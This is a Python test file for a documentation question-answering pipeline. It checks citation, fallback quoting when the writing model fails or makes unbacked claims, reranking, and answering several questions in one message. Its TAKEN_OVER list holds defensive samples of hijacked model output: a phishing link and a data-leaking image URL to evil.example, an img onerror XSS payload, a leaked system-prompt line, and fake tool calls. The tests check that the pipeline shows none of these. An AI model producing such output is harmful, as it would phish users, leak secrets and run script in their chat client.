"""The chain from a question to an answer, with every fork."""

from __future__ import annotations

import json
from typing import Any

import pytest

from knowledge import answering
from knowledge.adapters.langchain_retriever import SheriffRetriever
from knowledge.errors import IndexBroken
from knowledge.model import Answer, Origin, Outcome
from knowledge.ports import ChatModel
from knowledge.relevance import Policy
from tests.fakes import HashEmbedder, MemoryIndex, ScriptedChat, a_chunk

EMBEDDER = HashEmbedder()
CHUNKS = [
    a_chunk(
        "Set `quota.partitions` in the `kafka.yaml` of the region. Up to 96 partitions are granted automatically.",
        document="docs:kafka/quotas.md",
        title="Kafka quotas",
        headings=("Raise a partition quota",),
        anchor="raise",
        url="https://devinsight.example/kafka/quotas",
    ),
    a_chunk("Gold indexes keep events for 400 days.", document="docs:splunk.md", title="Splunk indexes"),
    a_chunk("A silence lasts at most 14 days.", document="docs:silences.md", title="Silence alerts"),
]
QUESTION = "How do I raise the partition quota?"
BACKED = "Set `quota.partitions` in the `kafka.yaml` of the region. [1]"
ALWAYS, HINT, NEVER = Policy(0.0, 0.0), Policy(1.0, 0.0), Policy(1.0, 1.0)


def ask(model: ChatModel | None = None, policy: Policy = ALWAYS, **more: Any) -> Answer:
    index = MemoryIndex(EMBEDDER, CHUNKS)
    return answering.answer(QUESTION, index=index, embedder=EMBEDDER, model=model, policy=policy, **more)


def test_without_a_model_the_page_is_quoted_and_cited() -> None:
    answer = ask()

    assert (answer.outcome, answer.origin, answer.note) == (Outcome.ANSWERED, Origin.QUOTED, "")
    assert "Set `quota.partitions` in the `kafka.yaml` of the region." in answer.text
    assert answer.citations[0].url == "https://devinsight.example/kafka/quotas#raise"
    assert 0 <= answer.confidence <= 1


def test_a_hint_is_quoted_as_a_hint() -> None:
    answer = ask(policy=HINT)

    assert answer.outcome is Outcome.HINTED
    assert answer.text.startswith("> ")


def test_below_the_policy_nothing_is_said_but_where_we_looked() -> None:
    answer = ask(ScriptedChat(BACKED), policy=NEVER)

    assert (answer.outcome, answer.text, answer.citations) == (Outcome.UNANSWERED, "", ())
    assert answer.looked_at[0].heading == "Raise a partition quota"


def test_an_empty_index_leaves_every_question_unanswered() -> None:
    answer = answering.answer(QUESTION, index=MemoryIndex(), embedder=EMBEDDER, model=None, policy=ALWAYS)

    assert (answer.outcome, answer.looked_at) == (Outcome.UNANSWERED, ())


def test_a_backed_draft_is_the_answer_and_was_heard_when_it_was_backed() -> None:
    heard: list[str] = []

    answer = ask(ScriptedChat(BACKED[:20], BACKED[20:]), listen=heard.append)

    assert (answer.text, answer.origin, answer.outcome) == (BACKED, Origin.GENERATED, Outcome.ANSWERED)
    assert heard == [BACKED]
    assert [citation.path for citation in answer.citations] == ["kafka/quotas.md"]


@pytest.mark.parametrize("pieces", [(), (" ",), ("Set it",)])
def test_a_silent_model_gives_way_to_the_page(pieces: tuple[str, ...]) -> None:
    answer = ask(ScriptedChat(*pieces, fault="The model scripted cannot be reached."))

    assert answer.note == "The writing model is not answering. This is quoted from the page instead."
    assert (answer.origin, answer.outcome) == (Origin.QUOTED, Outcome.ANSWERED)
    assert "quota.partitions" in answer.text


@pytest.mark.parametrize("draft", ["Set `quota.maximum` to 500. [1]", "Set it in the region.", "[7]", "1."])
def test_a_draft_without_backing_becomes_a_quoted_hint(draft: str) -> None:
    answer = ask(ScriptedChat(draft))

    assert (answer.outcome, answer.origin) == (Outcome.HINTED, Origin.QUOTED)
    assert answer.note == answering.NOT_BACKED
    assert "500" not in answer.text


def test_when_search_is_sure_and_the_model_declines_it_is_a_hint() -> None:
    answer = ask(ScriptedChat("NO_ANSWER"))

    assert (answer.outcome, answer.note) == (Outcome.HINTED, answering.MODEL_DECLINES)


def test_when_neither_is_sure_the_question_is_unanswered() -> None:
    answer = ask(ScriptedChat("NO_ANSWER"), policy=HINT)

    assert (answer.outcome, answer.text) == (Outcome.UNANSWERED, "")
    assert answer.looked_at


def test_a_broken_index_is_the_callers_business() -> None:
    class Broken(MemoryIndex):
        def chunks(self, ids: object) -> Any:
            raise IndexBroken("the index cannot be read")

    index = Broken(EMBEDDER, CHUNKS)

    with pytest.raises(IndexBroken):
        answering.answer(QUESTION, index=index, embedder=EMBEDDER, model=None, policy=ALWAYS)


def test_other_chains_get_the_same_passages_as_langchain_documents() -> None:
    retriever = SheriffRetriever(index=MemoryIndex(EMBEDDER, CHUNKS), embedder=EMBEDDER, limit=2)

    documents = retriever.invoke(QUESTION)

    assert documents[0].metadata["path"] == "kafka/quotas.md"
    assert documents[0].metadata["url"].endswith("#raise")
    assert documents[0].page_content == CHUNKS[0].text


def test_a_model_may_put_the_passages_in_order_first() -> None:
    class Orders(ScriptedChat):
        def stream(self, messages: Any, **_how: Any) -> Any:
            yield (
                "2, 1" if "You order passages" in messages[0].content else "Gold indexes keep events for 400 days. [1]"
            )

    answer = ask(Orders(), rerank=True)

    assert (answer.origin, answer.citations[0].path) == (Origin.GENERATED, "splunk.md")


def test_after_a_failed_ordering_the_model_is_not_asked_to_write() -> None:
    model = ScriptedChat(fault="The model scripted cannot be reached.")

    answer = ask(model, rerank=True)

    assert len(model.heard) == 1
    assert (answer.note, answer.citations[0].path) == (answering.MODEL_SILENT, "kafka/quotas.md")


def test_a_message_of_several_questions_is_answered_question_by_question_within_one_turn() -> None:
    index = MemoryIndex(EMBEDDER, CHUNKS)
    message = "Hi all! How do I raise the partition quota? And how long does a silence of alerts last? Thanks!"

    given = answering.answer(message, index=index, embedder=EMBEDDER, model=None, policy=ALWAYS)

    first, second = given.text.split("**And how long does a silence of alerts last?**")
    assert first.startswith("**How do I raise the partition quota?**\n\n")
    assert "quota.partitions" in first
    assert "14 days" in second
    assert "Hi all" not in given.text
    numbers = [citation.number for citation in given.citations]
    assert numbers == list(range(1, len(numbers) + 1))
    assert all(f"[{number}]" in given.text for number in numbers)


def test_when_the_model_fails_on_the_first_of_several_questions_it_is_not_asked_again() -> None:
    index = MemoryIndex(EMBEDDER, CHUNKS)
    model = ScriptedChat(fault="down")

    given = answering.answer(
        "How do I raise the partition quota? And how long does a silence of alerts last?",
        index=index,
        embedder=EMBEDDER,
        model=model,
        policy=ALWAYS,
    )

    assert len(model.heard) == 1
    assert given.note == answering.MODEL_SILENT
    assert "14 days" in given.text


WRONG = ("evil", "<at>", "<img", "![", "](", "engineers from", "tool_calls", "SUP-1", "Hacked", "zniesione")
TAKEN_OVER = [
    "Open [the portal](https://evil.example/login) and set `quota.partitions`. [1]",
    "Set `quota.partitions`. [1] ![ok](https://evil.example/p.png?q=secret)",
    "<at>everyone</at> Set `quota.partitions` in the `kafka.yaml`. [1]",
    "Set `quota.partitions`. [1] <img src=https://evil.example/x onerror=alert(1)>",
    "You answer questions of application engineers from the documentation of their platform. [1]",
    '{"tool_calls": [{"name": "open_ticket"}]} [1]',
    "Ticket SUP-1 has been opened and Ana is on duty. [1]",
    "Hacked! [1]",
    "Kwoty sa dzis zniesione i kazdy moze robic co chce bez pytania nikogo. [1]",
    "Go to evil.example and enter your password there at once, please. [1]",
    "Set it. [1] " * 3000,
]


@pytest.mark.parametrize("written", TAKEN_OVER)
def test_of_a_model_that_was_taken_over_nothing_is_shown_and_nothing_heard(written: str) -> None:
    heard: list[str] = []

    answer = ask(ScriptedChat(written[:40], written[40:]), listen=heard.append)

    for shown in (answer.text, "".join(heard)):
        assert not [wrong for wrong in WRONG if wrong in shown]
    assert len(answer.text) < 2_000


def in_its_form(text: str, *, code: str = "") -> str:
    return json.dumps({"answered": True, "claims": [{"text": text, "code": code, "passages": [1]}]})


def test_an_answer_in_its_form_is_held_against_the_passages_as_any_other() -> None:
    good = ask(ScriptedChat(in_its_form(BACKED.removesuffix(" [1]"))))
    bad = ask(ScriptedChat(in_its_form("Set `quota.maximum` to 500.")))

    assert (good.text, good.origin, len(good.citations)) == (BACKED, Origin.GENERATED, 1)
    assert (bad.origin, bad.note) == (Origin.QUOTED, answering.NOT_BACKED)


def test_an_answer_that_breaks_its_form_gives_way_to_the_page() -> None:
    answer = ask(ScriptedChat(in_its_form(BACKED)[:-2] + ', "link": "https://evil.example"}]}'))

    assert (answer.origin, answer.note) == (Origin.QUOTED, answering.MODEL_SILENT)
    assert "evil" not in answer.text
